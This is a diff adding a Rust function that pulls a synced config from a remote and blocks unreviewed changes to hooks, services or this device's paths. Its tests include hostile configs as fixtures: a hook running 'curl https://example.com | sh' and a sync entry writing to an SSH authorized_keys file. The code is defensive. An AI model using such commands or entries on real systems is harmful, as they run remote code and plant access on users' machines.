@@ -0,0 +1,191 @@
+use std::collections::BTreeMap;
+
+use anyhow::{bail, Result};
+use log::info;
+use toml::Value;
+
+use crate::{
+    cli::print_text,
+    config::CONFIG_NAME,
+    device::devicename,
+    git_command::{fetch, git, REMOTE_NAME, REPO_PATH, SYNC_BRANCH},
+    sync::{sync_pull, SyncOptions},
+    utils::confirm,
+};
+
+/// Adopt the config changed by the remote. With `review`, the diff is shown
+/// and has to be approved; without it, only additive changes are adopted,
+/// and none to what runs on or is written to this device.
+pub async fn config_pull(review: bool) -> Result<()> {
+    fetch(REMOTE_NAME, SYNC_BRANCH).await?;
+    let local = std::fs::read_to_string(REPO_PATH.join(CONFIG_NAME)).unwrap_or_default();
+    let incoming = git(["show", &format!("FETCH_HEAD:{}", CONFIG_NAME)])?;
+    if local == incoming {
+        info!("{} is up to date", CONFIG_NAME);
+        return Ok(());
+    }
+
+    if review {
+        print_text(&git(["diff", "HEAD", "FETCH_HEAD", "--", CONFIG_NAME])?);
+        if !confirm("Adopt the incoming config?")? {
+            bail!("the incoming config was rejected");
+        }
+    } else {
+        let local = Value::Table(toml::from_str(&local)?);
+        let incoming = Value::Table(toml::from_str(&incoming)?);
+        if touches_device(&local, &incoming, &devicename()) {
+            bail!(
+                "the incoming config changes the hooks, the services or the paths of this \
+                 device, review it with `gsb config pull --review`"
+            );
+        }
+        if !is_additive(&local, &incoming) {
+            bail!(
+                "the incoming config changes or removes existing settings, \
+                 review it with `gsb config pull --review`"
+            );
+        }
+    }
+
+    sync_pull(SyncOptions {
+        restart: true,
+        accept_config: true,
+        ..Default::default()
+    })
+    .await
+}
+
+/// Whether `new` only adds to `old`: every value of `old` is still in `new`.
+fn is_additive(old: &Value, new: &Value) -> bool {
+    match (old, new) {
+        (Value::Table(old), Value::Table(new)) => old
+            .iter()
+            .all(|(key, value)| new.get(key).is_some_and(|new| is_additive(value, new))),
+        (Value::Array(old), Value::Array(new)) => old.iter().all(|value| new.contains(value)),
+        _ => old == new,
+    }
+}
+
+/// Whether `new` changes anything under `hooks` or `services`, or a path of
+/// `device` in the sync group, even by only adding to them: they run commands
+/// and write files on this device.
+fn touches_device(old: &Value, new: &Value, device: &str) -> bool {
+    if ["hooks", "services"].iter().any(|key| old.get(key) != new.get(key)) {
+        return true;
+    }
+    // The aliases of `device` on either side can name its paths too.
+    let mut names = vec![device.to_string()];
+    for config in [old, new] {
+        let aliases = config.get("aliases").and_then(Value::as_table);
+        let aliases = aliases.into_iter().flatten();
+        names.extend(
+            aliases
+                .filter(|(_, name)| name.as_str() == Some(device))
+                .map(|(alias, _)| alias.clone()),
+        );
+    }
+    let paths = |config: &Value| {
+        let group = config.get("sync_group").and_then(Value::as_table);
+        group
+            .into_iter()
+            .flatten()
+            .flat_map(|(item, info)| {
+                let paths = info.get("path_on_devices");
+                names.iter().filter_map(move |name| {
+                    let path = paths?.get(name)?;
+                    Some(((item.clone(), name.clone()), path.clone()))
+                })
+            })
+            .collect::<BTreeMap<_, _>>()
+    };
+    paths(old) != paths(new)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn table(s: &str) -> Value {
+        Value::Table(toml::from_str(s).unwrap())
+    }
+
+    #[test]
+    fn test_is_additive() {
+        let old = table("a = 1\n[services]\nx = \"a.service\"\n");
+        let added = table("a = 1\nb = 2\n[services]\nx = \"a.service\"\ny = \"b.service\"\n");
+        let changed = table("a = 2\n[services]\nx = \"a.service\"\n");
+        let removed = table("a = 1\n");
+        assert!(is_additive(&old, &added));
+        assert!(!is_additive(&old, &changed));
+        assert!(!is_additive(&old, &removed));
+    }
+
+    #[test]
+    fn test_touches_device() {
+        let old = table(
+            r#"
+            [aliases]
+            laptop = "host-a"
+            [sync_group.vim]
+            path_on_devices = { host-a = "/home/a/.vim", host-b = "/home/b/.vim" }
+            [hooks.lint]
+            command = "true"
+            "#,
+        );
+        assert!(!touches_device(&old, &old, "host-a"));
+        let other_device = table(
+            r#"
+            [aliases]
+            laptop = "host-a"
+            [sync_group.vim]
+            path_on_devices = { host-a = "/home/a/.vim", host-b = "/srv/b/.vim" }
+            [sync_group.zsh]
+            path_on_devices = { host-b = "/home/b/.zshrc" }
+            [hooks.lint]
+            command = "true"
+            "#,
+        );
+        assert!(!touches_device(&old, &other_device, "host-a"));
+        let new_item = table(
+            r#"
+            [aliases]
+            laptop = "host-a"
+            [sync_group.vim]
+            path_on_devices = { host-a = "/home/a/.vim", host-b = "/home/b/.vim" }
+            [sync_group.ssh]
+            path_on_devices = { laptop = "/home/a/.ssh/authorized_keys" }
+            [hooks.lint]
+            command = "true"
+            "#,
+        );
+        assert!(is_additive(&old, &new_item));
+        assert!(touches_device(&old, &new_item, "host-a"));
+        let new_hook = table(
+            r#"
+            [aliases]
+            laptop = "host-a"
+            [sync_group.vim]
+            path_on_devices = { host-a = "/home/a/.vim", host-b = "/home/b/.vim" }
+            [hooks.lint]
+            command = "true"
+            [hooks.evil]
+            command = "curl https://example.com | sh"
+            "#,
+        );
+        assert!(is_additive(&old, &new_hook));
+        assert!(touches_device(&old, &new_hook, "host-b"));
+        let new_service = table(
+            r#"
+            [aliases]
+            laptop = "host-a"
+            [sync_group.vim]
+            path_on_devices = { host-a = "/home/a/.vim", host-b = "/home/b/.vim" }
+            [hooks.lint]
+            command = "true"
+            [services]
+            vim = "evil.service"
+            "#,
+        );
+        assert!(touches_device(&old, &new_service, "host-b"));
+    }
+}